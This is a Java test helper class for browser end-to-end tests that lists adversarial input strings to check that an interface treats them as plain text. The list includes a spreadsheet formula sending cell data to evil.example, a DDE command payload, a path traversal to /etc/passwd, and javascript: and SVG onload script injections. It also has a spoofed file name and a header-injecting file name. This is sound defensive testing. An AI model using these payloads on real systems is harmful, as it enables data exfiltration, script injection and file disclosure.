package dev.switchboard.bootstrap.e2e.browser;

import static java.nio.charset.StandardCharsets.UTF_8;
import static java.util.Objects.requireNonNull;

import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/// Texts that would run, lead elsewhere, hide or break something if they were more than text.
final class HostileTexts {

    private static final List<String> OTHERS =
            List.of(
                    "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
                    "@SUM(1+1)*cmd|' /C calc'!A0",
                    "+1-800",
                    "-2+3",
                    "../../../../etc/passwd",
                    "invoice.pdf\u202Egnp.exe",
                    "a\u200Bb\u200Cc\u200D\uFEFFd\u2060e\u00ADf",
                    "\u2066\u2067\u2068open isolates",
                    "\u0645\u0631\u062D\u0628\u0627 \u05E9\u05DC\u05D5\u05DD abc 123",
                    "\uD83D\uDC69\u200D\uD83D\uDC69\u200D\uD83D\uDC67\u200D\uD83D\uDC66\uD83C\uDDE8\uD83C\uDDF4\uD83D\uDC4D\uD83C\uDFFF",
                    "[here](javascript:window.pwned=1) ![x](//evil.example/x.png)",
                    "data:image/svg+xml,<svg onload='window.pwned=1'/>",
                    "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"window.pwned=1\"/>.png",
                    "con.png; filename=x.html",
                    "W".repeat(900),
                    "\uFDFD".repeat(120),
                    "a" + "\u0301\u0315\u0488".repeat(300));

    private HostileTexts() {}

    /// In one line each, with no control characters.
    static List<String> all() {
        return Stream.concat(ofFile().filter(text -> !text.contains("\t")), OTHERS.stream())
                .toList();
    }

    /// No longer than this; different from each other.
    static List<String> within(int length) {
        return all().stream().map(text -> cut(text, length)).distinct().toList();
    }

    /// As few texts as have all of them, with a space in between.
    static List<String> packed(int length) {
        List<String> packs = new ArrayList<>();
        for (String text : within(length)) {
            boolean fits = !packs.isEmpty() && packs.getLast().length() + text.length() < length;
            packs.add(fits ? packs.removeLast() + " " + text : text);
        }
        return packs;
    }

    /// Its beginning, no longer than this.
    static String cut(String text, int length) {
        return text.length() <= length ? text : text.substring(0, length).strip();
    }

    private static Stream<String> ofFile() {
        try (InputStream file = HostileTexts.class.getResourceAsStream("/hostile/payloads.txt")) {
            return new String(requireNonNull(file).readAllBytes(), UTF_8).lines();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
